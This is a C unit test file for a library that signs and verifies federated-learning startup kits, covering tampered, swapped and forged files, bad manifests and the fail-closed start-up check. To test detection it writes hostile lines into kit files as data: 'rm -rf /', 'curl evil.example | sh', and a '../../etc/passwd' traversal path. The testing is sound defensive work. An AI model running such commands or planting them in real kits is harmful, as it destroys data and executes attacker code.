/* Unit tests for startup kits' signatures (src/kit/kitsig.c): the signed manifest
 * signature.json made and checked (changed, missing and added files reported one by one, files
 * swapped under each other's names or brought from another kit, forged names and digests,
 * another CA), and the start-up check of a kit, which fails closed. Kits are provisioned by the
 * library; the fixture is in kit_fixture.h. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include "kit_fixture.h"

/* --- signatures ------------------------------------------------------------------------------ */

/* What cfl_kit_verify reported. */
struct problems {
	int n;
	enum cfl_kit_problem what[16];
	char file[16][128];
};

static void on_problem(enum cfl_kit_problem what, const char *file, void *arg)
{
	struct problems *p = arg;

	if (p->n < 16) {
		p->what[p->n] = what;
		snprintf(p->file[p->n], sizeof(p->file[0]), "%s", file);
	}
	p->n++;
}

static int has(const struct problems *p, enum cfl_kit_problem what, const char *file)
{
	for (int i = 0; i < p->n && i < 16; i++) {
		if (p->what[i] == what && strcmp(p->file[i], file) == 0)
			return 1;
	}
	return 0;
}

/* A kit written here and signed with the project's CA key: startup/ with the root CA, a
 * config, a certificate and a script; local/ with one default and one file of the site's. */
static const char *signed_kit(char *dir, size_t size, const char *name)
{
	static const char *const texts[][2] = {
	        {"startup/fed_client.json", NULL},
	        {"startup/client.crt", "not really a certificate\n"},
	        {"startup/start.sh", "#!/bin/sh\necho start\n"},
	        {"local/resources.json.default", "{\"gpu\": 0}\n"},
	        {"local/site.conf", "the site's own\n"},
	};
	char path[PATH_MAX], ca[PATH_MAX];
	struct cfl_err e = {0};

	path_join(dir, size, tmp_dir, name);
	path_join(path, sizeof(path), dir, "startup");
	assert_int_equal(cfl__fs_mkdirs(path, 0700, &e), 0);
	path_join(path, sizeof(path), dir, "local");
	assert_int_equal(cfl__fs_mkdirs(path, 0700, &e), 0);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
		write_text(path_join(path, sizeof(path), dir, texts[i][0]),
		           texts[i][1] != NULL ? texts[i][1] : templates[CLIENT]);
	kit(ca, sizeof(ca), prod, "site-1", "rootCA.pem");
	assert_int_equal(cfl__fs_copy_file(ca,
	                                   path_join(path, sizeof(path), dir, "startup/rootCA.pem"),
	                                   1u << 20, 0644, &e),
	                 0);
	if (cfl_kit_sign(dir, ca_key, &e) != 0)
		fail_msg("sign: %s", e.msg);
	return dir;
}

/* Verifies `dir`; returns the code, problems in *p, message in e. */
static int verify(const char *dir, struct problems *p, struct cfl_err *e)
{
	memset(p, 0, sizeof(*p));
	cfl_err_clear(e);
	return cfl_kit_verify(dir, on_problem, p, e);
}

static void append(const char *dir, const char *rel, const char *text)
{
	char path[PATH_MAX];
	FILE *f;

	path_join(path, sizeof(path), dir, rel);
	f = fopen(path, "a");
	assert_non_null(f);
	fputs(text, f);
	assert_int_equal(fclose(f), 0);
}

/* signature.json of `dir`, parsed. */
static json_t *manifest_of(const char *dir)
{
	char path[PATH_MAX], *text = NULL;
	struct cfl_err e = {0};
	size_t len = 0;
	json_t *v;

	path_join(path, sizeof(path), dir, "startup/signature.json");
	assert_int_equal(cfl__fs_read_file(path, 1u << 20, &text, &len, &e), 0);
	v = json_loads(text, 0, NULL);
	free(text);
	assert_non_null(v);
	return v;
}

static void manifest_save(const char *dir, json_t *v)
{
	char path[PATH_MAX], *text = json_dumps(v, JSON_INDENT(2));

	assert_non_null(text);
	write_text(path_join(path, sizeof(path), dir, "startup/signature.json"), text);
	free(text);
}

/* Writes a signature.json of the right shape holding `listed` (JSON text) and `sig`. */
static void manifest_write(const char *dir, const char *listed, const char *sig)
{
	char path[PATH_MAX], text[4096];

	snprintf(text, sizeof(text),
	         "{\"format\": \"cfl-kit-manifest/1\", \"files\": %s, \"signature\": \"%s\"}",
	         listed, sig);
	write_text(path_join(path, sizeof(path), dir, "startup/signature.json"), text);
}

static void sha256_hex(const char *text, char hex[65])
{
	struct cfl_sha256 *h = cfl_sha256_new();
	uint8_t md[CFL_SHA256_LEN];

	assert_non_null(h);
	cfl_sha256_update(h, text, strlen(text));
	cfl_sha256_final(h, md);
	cfl_sha256_free(h);
	cfl_hex(md, sizeof(md), hex);
}

static void test_sign_and_verify(void **state)
{
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], hex[65];
	struct problems p;
	struct cfl_err e = {0};
	json_t *m, *listed;

	(void)state;
	assert_string_equal(cfl_kit_problem_name(CFL_KIT_CHANGED), "changed");
	assert_string_equal(cfl_kit_problem_name(CFL_KIT_MISSING), "missing");
	assert_string_equal(cfl_kit_problem_name(CFL_KIT_ADDED), "added");

	signed_kit(dir, sizeof(dir), "sig-intact");
	assert_int_equal(verify(dir, &p, &e), 0);
	assert_int_equal(p.n, 0);
	/* What is signed: startup/ but signature.json, local/ defaults and samples only, each
	 * name with its SHA-256, under one signature. */
	m = manifest_of(dir);
	assert_string_equal(json_string_value(json_object_get(m, "format")), "cfl-kit-manifest/1");
	assert_true(json_string_length(json_object_get(m, "signature")) > 0);
	listed = json_object_get(m, "files");
	assert_int_equal(json_object_size(listed), 5);
	assert_non_null(json_object_get(listed, "startup/fed_client.json"));
	assert_non_null(json_object_get(listed, "startup/client.crt"));
	assert_non_null(json_object_get(listed, "startup/rootCA.pem"));
	assert_non_null(json_object_get(listed, "local/resources.json.default"));
	sha256_hex("#!/bin/sh\necho start\n", hex);
	assert_string_equal(json_string_value(json_object_get(listed, "startup/start.sh")), hex);
	json_decref(m);
	/* The site's own files in local/ are not the kit's business. */
	append(dir, "local/site.conf", "changed by the site\n");
	append(dir, "local/notes.txt", "new\n");
	assert_int_equal(verify(dir, &p, &e), 0);

	/* One changed file. */
	append(dir, "startup/fed_client.json", " ");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/fed_client.json"));
	snprintf(want, sizeof(want),
	         "kit '%s' has 1 changed, missing or added file: 'startup/fed_client.json' changed",
	         dir);
	assert_string_equal(e.msg, want);

	/* Changed, missing and added at once, each reported. */
	signed_kit(dir, sizeof(dir), "sig-three");
	append(dir, "local/resources.json.default", "\n");
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/start.sh")), 0);
	append(dir, "startup/evil.sh", "rm -rf /\n");
	append(dir, "local/extra.default", "{}\n");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 4);
	assert_true(has(&p, CFL_KIT_CHANGED, "local/resources.json.default"));
	assert_true(has(&p, CFL_KIT_MISSING, "startup/start.sh"));
	assert_true(has(&p, CFL_KIT_ADDED, "startup/evil.sh"));
	assert_true(has(&p, CFL_KIT_ADDED, "local/extra.default"));
	snprintf(want, sizeof(want), "kit '%s' has 4 changed, missing or added files: ", dir);
	assert_memory_equal(e.msg, want, strlen(want));
	assert_non_null(strstr(e.msg, "'startup/start.sh' missing"));
	assert_non_null(strstr(e.msg, "'startup/evil.sh' added"));
	/* Without a callback: the same verdict. */
	assert_int_equal(cfl_kit_verify(dir, NULL, NULL, &e), CFL_EVERIFY);

	/* A file whose name the manifest cannot hold is not signed, and shows as added. */
	signed_kit(dir, sizeof(dir), "sig-space");
	append(dir, "startup/a b", "x");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_true(has(&p, CFL_KIT_ADDED, "startup/a b"));
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_EINVAL);
	assert_string_equal(
	        e.msg, "cannot sign 'startup/a b': a name with a space or a control character");

	/* The provisioned kits verify as they are. */
	path_join(path, sizeof(path), prod, "site-1");
	assert_int_equal(verify(path, &p, &e), 0);
	path_join(path, sizeof(path), prod, "server1");
	assert_int_equal(verify(path, &p, &e), 0);
}

/* Swaps the contents of two files of a kit. */
static void swap_files(const char *dir, const char *a, const char *b)
{
	char pa[PATH_MAX], pb[PATH_MAX], tmp[PATH_MAX + 8];

	path_join(pa, sizeof(pa), dir, a);
	path_join(pb, sizeof(pb), dir, b);
	snprintf(tmp, sizeof(tmp), "%s.swap", pa);
	assert_int_equal(rename(pa, tmp), 0);
	assert_int_equal(rename(pb, pa), 0);
	assert_int_equal(rename(tmp, pb), 0);
}

/* What a bad manifest signature looks like: signature.json alone reported. */
static void expect_bad_signature(const char *dir)
{
	char want[PATH_MAX * 2];
	struct problems p;
	struct cfl_err e = {0};

	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/signature.json"));
	snprintf(want, sizeof(want),
	         "kit '%s': the signature of 'startup/signature.json' does not verify with "
	         "'startup/rootCA.pem'",
	         dir);
	assert_string_equal(e.msg, want);
}

/* With one signature per file (NVFlare's signature.json), two signed files could trade names
 * along with their signatures, and a signed file of another kit of the project could come in
 * with its own: the manifest binds every name to its digest under one signature. */
static void test_swapped_files(void **state)
{
	char dir[PATH_MAX], other[PATH_MAX], path[PATH_MAX], src_dst[PATH_MAX];
	struct problems p;
	struct cfl_err e = {0};
	json_t *m, *listed, *mo, *a, *b;

	(void)state;
	/* Two files swapped: both changed. */
	signed_kit(dir, sizeof(dir), "swap-files");
	swap_files(dir, "startup/start.sh", "startup/client.crt");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 2);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/client.crt"));
	/* ...and their digests swapped in the manifest too: the signature no longer fits. */
	m = manifest_of(dir);
	listed = json_object_get(m, "files");
	a = json_incref(json_object_get(listed, "startup/start.sh"));
	b = json_incref(json_object_get(listed, "startup/client.crt"));
	json_object_set_new(listed, "startup/start.sh", b);
	json_object_set_new(listed, "startup/client.crt", a);
	manifest_save(dir, m);
	json_decref(m);
	expect_bad_signature(dir);

	/* A file of another kit signed by the same CA, with its digest. */
	signed_kit(dir, sizeof(dir), "swap-kit-a");
	signed_kit(other, sizeof(other), "swap-kit-b");
	append(other, "startup/start.sh", "curl evil.example | sh\n");
	assert_int_equal(cfl_kit_sign(other, ca_key, &e), 0);
	assert_int_equal(verify(other, &p, &e), 0);
	path_join(path, sizeof(path), other, "startup/start.sh");
	path_join(src_dst, sizeof(src_dst), dir, "startup/start.sh");
	assert_int_equal(cfl__fs_copy_file(path, src_dst, 1u << 20, 0755, &e), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
	m = manifest_of(dir);
	mo = manifest_of(other);
	json_object_set(json_object_get(m, "files"), "startup/start.sh",
	                json_object_get(json_object_get(mo, "files"), "startup/start.sh"));
	manifest_save(dir, m);
	json_decref(m);
	json_decref(mo);
	expect_bad_signature(dir);

	/* A file dropped from both the kit and the manifest. */
	signed_kit(dir, sizeof(dir), "swap-drop");
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/start.sh")), 0);
	m = manifest_of(dir);
	json_object_del(json_object_get(m, "files"), "startup/start.sh");
	manifest_save(dir, m);
	json_decref(m);
	expect_bad_signature(dir);
}

static void test_forged_signatures(void **state)
{
	static const char *const bad_names[] = {
	        "../../etc/passwd",     "local/site.conf",        "local/sub/x.default",
	        "startup/..",           "startup/signature.json", "startup/a b",
	        "startup/a\\nb",        "fed_client.json",        "startup/",
	        "other/fed_client.json"};
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], listed[512];
	const char *digest = "0000000000000000000000000000000000000000000000000000000000000000";
	struct problems p;
	struct cfl_err e = {0};
	int fd;

	(void)state;
	/* Signed with another project's CA key. */
	signed_kit(dir, sizeof(dir), "sig-other-ca");
	assert_int_equal(cfl_kit_sign(dir, other_ca_key, &e), 0);
	expect_bad_signature(dir);
	/* A signature that is not base64. */
	signed_kit(dir, sizeof(dir), "sig-garbage");
	manifest_write(dir, "{}", "!!!");
	expect_bad_signature(dir);

	/* Names that point outside the kit, at a file of the site's, or that the canonical text
	 * could not hold. */
	path_join(path, sizeof(path), dir, "startup/signature.json");
	for (size_t i = 0; i < sizeof(bad_names) / sizeof(bad_names[0]); i++) {
		char shown[64];

		snprintf(listed, sizeof(listed), "{\"%s\": \"%s\"}", bad_names[i], digest);
		manifest_write(dir, listed, "AAAA");
		assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
		snprintf(shown, sizeof(shown), "%s", bad_names[i]);
		if (strcmp(bad_names[i], "startup/a\\nb") == 0)
			snprintf(shown, sizeof(shown), "startup/a\nb");
		snprintf(want, sizeof(want), "signature file names a bad path '%s'", shown);
		assert_string_equal(e.msg, want);
	}
	/* A digest that is not SHA-256 hex. */
	manifest_write(dir, "{\"startup/start.sh\": \"xyz\"}", "AAAA");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_string_equal(e.msg, "signature file has no SHA-256 digest for 'startup/start.sh'");
	manifest_write(dir, "{\"startup/start.sh\": 5}", "AAAA");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_string_equal(e.msg, "signature file has no SHA-256 digest for 'startup/start.sh'");

	/* Not a manifest: another shape, or NVFlare's one signature per file. */
	write_text(path, "[]");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: not a JSON object", path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"start.sh\": \"AAAA\", \"client.crt\": \"AAAA\"}");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want),
	         "'%s' is not a valid signature file: not a 'cfl-kit-manifest/1' manifest (a kit "
	         "signed by an older cfl: provision it again)",
	         path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"format\": \"cfl-kit-manifest/1\", \"signature\": \"AAAA\"}");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: no 'files' object", path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"format\": \"cfl-kit-manifest/1\", \"files\": {}}");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: no 'signature'", path);
	assert_string_equal(e.msg, want);
	write_text(path, "{\"format\": ");
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want), "'%s' is not a valid signature file: ", path);
	assert_memory_equal(e.msg, want, strlen(want));
	assert_int_equal(unlink(path), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
	snprintf(want, sizeof(want), "cannot read '%s': No such file or directory", path);
	assert_string_equal(e.msg, want);

	/* A signed file grown past 16 MiB is reported, not read. */
	signed_kit(dir, sizeof(dir), "sig-huge");
	path_join(path, sizeof(path), dir, "startup/start.sh");
	fd = open(path, O_WRONLY);
	assert_true(fd >= 0);
	assert_int_equal(ftruncate(fd, (off_t)CFL_KIT_MAX_FILE_BYTES + 1), 0);
	close(fd);
	assert_int_equal(verify(dir, &p, &e), CFL_EVERIFY);
	assert_int_equal(p.n, 1);
	assert_true(has(&p, CFL_KIT_CHANGED, "startup/start.sh"));
	/* ...and such a kit cannot be signed. */
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_ETOOBIG);
	snprintf(want, sizeof(want), "cannot read '%s': larger than 16777216 bytes", path);
	assert_string_equal(e.msg, want);
}

static void test_kit_shapes(void **state)
{
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3], name[32];
	struct problems p;
	struct cfl_err e = {0};

	(void)state;
	/* Not a kit. */
	path_join(dir, sizeof(dir), tmp_dir, "no-kit");
	assert_int_equal(cfl__fs_mkdirs(dir, 0700, &e), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
	snprintf(want, sizeof(want), "cannot open '%s/startup': not a startup kit", dir);
	assert_string_equal(e.msg, want);
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_ENOENT);
	assert_string_equal(e.msg, want);

	/* Without its root CA the kit cannot be checked. */
	signed_kit(dir, sizeof(dir), "sig-no-ca");
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/rootCA.pem")), 0);
	assert_int_equal(verify(dir, &p, &e), CFL_ENOENT);
	snprintf(want, sizeof(want), "cannot check kit '%s': cannot read '%s'", dir, path);
	assert_memory_equal(e.msg, want, strlen(want));

	/* At most 256 files. */
	signed_kit(dir, sizeof(dir), "sig-many");
	for (int i = 0; i < CFL_KIT_MAX_FILES; i++) {
		snprintf(name, sizeof(name), "startup/f%03d", i);
		append(dir, name, "x");
	}
	assert_int_equal(cfl_kit_sign(dir, ca_key, &e), CFL_ETOOBIG);
	snprintf(want, sizeof(want), "too many or too long names in '%s/startup'", dir);
	assert_string_equal(e.msg, want);
	assert_int_equal(verify(dir, &p, &e), CFL_ETOOBIG);
}

/* The check at start-up fails closed: nothing in a kit switches it off. Only the program may
 * let an unsigned kit run (the simulator's --unsigned-kit), and a signed kit is checked even
 * then. */
static void test_verify_at_startup(void **state)
{
	char dir[PATH_MAX], path[PATH_MAX], want[PATH_MAX * 3];
	struct cfl_kitcfg c;
	struct cfl_err e = {0};
	json_t *root;
	char *text;

	(void)state;
	log_capture();
	signed_kit(dir, sizeof(dir), "start-signed");
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), 0);

	/* Turning secure_train off in a signed kit is a change like any other... */
	root = json_loads(templates[CLIENT], 0, NULL);
	set_path(root, "secure_train", json_false());
	text = json_dumps(root, 0);
	json_decref(root);
	path_join(path, sizeof(path), dir, "startup/fed_client.json");
	write_text(path, text);
	free(text);
	assert_int_equal(cfl_kitcfg_load(dir, CLIENT, &c, &e), 0);
	assert_int_equal(c.secure_train, 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want),
	         "refusing to start: kit '%s' has 1 changed, missing or added file: "
	         "'startup/fed_client.json' changed",
	         c.kit_dir);
	assert_string_equal(e.msg, want);
	assert_true(logged("kit file 'startup/fed_client.json' is changed", NULL));
	/* ...also for a program that accepts unsigned kits: this one is signed. */
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), CFL_EVERIFY);

	/* signature.json deleted as well (secure_train still off): refused all the same. */
	assert_int_equal(unlink(path_join(path, sizeof(path), dir, "startup/signature.json")), 0);
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_SIGNED, &e), CFL_EVERIFY);
	snprintf(want, sizeof(want),
	         "refusing to start: kit '%s' is not signed (no startup/signature.json)",
	         c.kit_dir);
	assert_string_equal(e.msg, want);
	assert_true(logged("kit file 'startup/signature.json' is missing", NULL));
	/* Only the program's own switch lets it run, with a warning. */
	assert_int_equal(cfl_kitcfg_verify_kit(&c, CFL_KIT_CHECK_UNSIGNED_OK, &e), 0);
	assert_true(logged("is not signed: not checked (--unsigned-kit)", NULL));
	cfl_log_set_sink(NULL, NULL);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_sign_and_verify),   cmocka_unit_test(test_swapped_files),
	        cmocka_unit_test(test_forged_signatures), cmocka_unit_test(test_kit_shapes),
	        cmocka_unit_test(test_verify_at_startup),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
